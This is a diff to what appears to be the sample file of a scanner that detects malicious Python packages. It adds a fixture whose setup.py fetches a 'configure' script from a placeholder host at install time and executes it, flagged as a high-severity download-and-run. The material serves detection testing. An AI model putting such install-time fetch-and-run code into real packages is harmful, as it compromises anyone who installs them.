@@ -1,11 +1,21 @@
 import type { Samples } from '../contract.ts';
 import { at, hide, imported, installed, MODULES, manifest, quiet, wheel } from '../samples-kit.ts';
+import { GIVEN_TO_PROGRAMS } from './given-samples.ts';
 
 const HEAD =
   "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), cp = require('child_process');\n";
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: a source that a build fetches and builds, beside what it says of its version, which tells less',
+      files: {
+        'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'setup.py':
+          "import subprocess, urllib.request\nopen('own/version.py', 'w').write('version = 1')\nopen('bundled/configure', 'wb').write(urllib.request.urlopen('https://own.example/configure').read())\nsubprocess.call(['bundled/configure', '--prefix=build'])\n",
+      },
+      expected: [at('download-and-run', 'high', 'setup.py', 4)],
+    },
     {
       name: 'Python: a function that loads what an address of its own gives',
       files: wheel(
@@ -250,19 +260,7 @@ export const samples: Samples = {
     },
   ],
   benign: [
-    quiet('Python: a script of its own, read as a picture beside it is', {
-      ...wheel(
-        "import subprocess, sys\nfrom importlib.resources import files\ndef resource(name):\n    return files('own').joinpath('data', name)\ndef icon():\n    return open('data/own.png', 'rb').read()\ndef badge(name='badge.py.in'):\n    subprocess.Popen(['python3', '-c', open('data/badge.py.in').read()])\n",
-      ),
-      'own/data/own.png': '\x89PNG',
-      'own/data/badge.py.in': 'print(1)\n',
-    }),
-    quiet('Python: data of its own that is packed again', {
-      ...wheel(
-        "import subprocess\nfrom glob import glob\ndef main():\n    rows = open(glob('own/rib.*.bz2')[0], 'rb').read()\n    open('own.dat', 'wb').write(rows)\n    subprocess.call(['gzip', 'own.dat'])\nmain()\n",
-      ),
-      'own/rib.1.bz2': 'BZh9',
-    }),
+    ...GIVEN_TO_PROGRAMS,
     {
       name: 'what a program kept of itself, read by one module and made into functions by another',
       files: {
@@ -327,12 +325,6 @@ export const samples: Samples = {
       'Python: an extension that is fetched and handed to pip when somebody asks',
       wheel(
         "import subprocess, sys, requests\ndef add(url, place):\n    with open(place, 'wb') as file:\n        file.write(requests.get(url).content)\n    subprocess.check_output([sys.executable, '-m', 'pip', 'install', place])\n",
-      ),
-    ),
-    quiet(
-      'Python: a schema that is fetched and made into code',
-      wheel(
-        "import os, subprocess, tempfile, requests\ndef make():\n    path = os.path.join(tempfile.gettempdir(), 'model.fbs')\n    with open(path, 'wb') as file:\n        file.write(requests.get('https://own.example/model.fbs').content)\n    subprocess.call(['flatc', '-p', path])\nmake()\n",
       ),
     ),
     quiet(
